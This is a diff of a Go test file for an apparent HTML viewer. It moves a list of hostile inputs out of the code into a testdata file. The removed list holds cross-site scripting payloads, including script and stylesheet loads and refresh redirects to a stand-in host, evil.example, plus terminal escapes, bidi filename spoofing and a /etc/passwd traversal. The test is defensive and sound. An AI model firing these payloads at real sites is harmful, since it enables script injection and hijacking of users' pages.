@@ -4,10 +4,13 @@ import (
 	"encoding/json"
 	"encoding/xml"
 	"errors"
+	"fmt"
 	"io"
+	"os"
 	"reflect"
 	"regexp"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"unicode"
@@ -20,48 +23,24 @@ import (
 	"github.com/retake-dev/retake/diff"
 )
 
-// payloads are texts that a page, or a person, could have put anywhere.
-var payloads = []string{
-	`<script>alert(1)</script>`,
-	`</script><script>alert(1)</script>`,
-	`</ScRiPt ><script src=//evil.example/x.js></script>`,
-	`"><script>alert(1)</script>`,
-	`'><img src=x onerror=alert(1)>`,
-	`" onmouseover="alert(1)" x="`,
-	`' onfocus='alert(1)' autofocus='`,
-	"` onload=alert(1) `",
-	`<!--`,
-	`--><script>alert(1)</script>`,
-	`<!--<script>`,
-	`]]><script>alert(1)</script>`,
-	`</style><script>alert(1)</script>`,
-	`}</style><style>*{background:url(//evil.example)}`,
-	`red;background:url(javascript:alert(1))`,
-	`expression(alert(1))`,
-	`javascript:alert(1)`,
-	`data:text/html,<script>alert(1)</script>`,
-	`//evil.example/x`,
-	`<svg onload=alert(1)>`,
-	`<svg><script>alert(1)</script></svg>`,
-	`</svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">`,
-	`</textarea></title><base href=//evil.example>`,
-	`<meta http-equiv=refresh content="0;url=//evil.example">`,
-	`<link rel=stylesheet href=//evil.example>`,
-	`<iframe src=javascript:alert(1)>`,
-	`<template><script>alert(1)</script></template>`,
-	`<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
-	"a\u2028alert(1)\u2029b",
-	"nul\x00l<scr\x00ipt>alert(1)</scr\x00ipt>",
-	"\x1b[2J\x1b]0;owned\x07\x9b31m",
-	"\u202e<\u2066gnp.exe",
-	"\xff\xfe<\xc0\xbcscript>",
-	`{{.}}{{template "page.tmpl"}}`,
-	`${alert(1)}`,
-	`&lt;script&gt;alert(1)&lt;/script&gt;`,
-	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
-	`../../etc/passwd`,
-	`__proto__`,
-	strings.Repeat("<div>", 60),
+// payloads are texts that a page, or a person, could have put anywhere: a
+// quoted one a line.
+var payloads = hostileTexts("viewer/testdata/hostile.txt")
+
+func hostileTexts(path string) []string {
+	list, err := os.ReadFile(path)
+	if err != nil {
+		panic(err)
+	}
+	var out []string
+	for line := range strings.Lines(string(list)) {
+		text, err := strconv.Unquote(strings.TrimSpace(line))
+		if err != nil {
+			panic(fmt.Sprintf("%s: %s: %v", path, line, err))
+		}
+		out = append(out, text)
+	}
+	return out
 }
 
 // poison puts a text into every string that can be reached. Words of closed
@@ -202,7 +181,7 @@ func inspect(t *testing.T, page string) (skeleton, text string) {
 // TestHostileHTML checks that no text makes an element or an attribute: the
 // page of any text is built like the page of a harmless one.
 func TestHostileHTML(t *testing.T) {
-	require.Greater(t, len(payloads), 25)
+	require.GreaterOrEqual(t, len(payloads), 40)
 	for all, payloads := range map[bool][]string{false: payloads, true: payloads[:6]} {
 		want, _ := inspect(t, render(t, "html", poisoned("harmless", all)))
 		for _, p := range payloads {
